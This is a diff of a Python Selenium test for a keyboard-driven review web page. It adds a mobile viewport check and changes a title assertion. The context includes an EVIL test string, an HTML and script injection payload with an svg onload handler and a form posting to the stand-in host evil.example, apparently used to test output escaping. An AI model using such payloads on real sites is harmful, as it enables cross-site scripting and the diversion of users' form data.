@@ -32,7 +32,7 @@ EVIL = (
     "</div></article></form><form action='http://evil.example/'><svg/onload=alert(1)>\u2028\0 & &lt;b&gt; \"'`",
 )
 
-
+PHONE = {"width": 390, "height": 800, "deviceScaleFactor": 1, "mobile": True}
 CORRECTION = "Say 1 2 s u instead"
 
 
@@ -66,7 +66,7 @@ class Page:
         return str(self.browser.find_element(By.CSS_SELECTOR, name).get_property("textContent"))
 
     def reaches(self, count: str) -> None:
-        until(lambda: self.browser.title == f"Review · {count}", Patience.SIGNAL, lambda: self.browser.title)
+        until(lambda: self.browser.title.endswith(f"· Review · {count}"), Patience.SIGNAL, lambda: self.browser.title)
 
 
 def choice_of(item: Item, word: str) -> str:
@@ -89,6 +89,9 @@ def test_a_reviewer_compares_corrects_skips_and_undoes_by_keyboard(tmp_path: Pat
     page, order = Page(browser), find_items(exchanges(run.path), {})
     browser.get(server.link())
     assert browser.current_url == f"{server.address}/"  # the token is not left in the address
+    browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", PHONE)
+    assert browser.execute_script("return document.documentElement.scrollWidth") == PHONE["width"]
+    browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
     keys = iter((("e", "left"), (Keys.ARROW_RIGHT, "right"), ("3", "both"), ("s", "skip")))
     corrected, expected = "", []
     for number, item in enumerate(order):
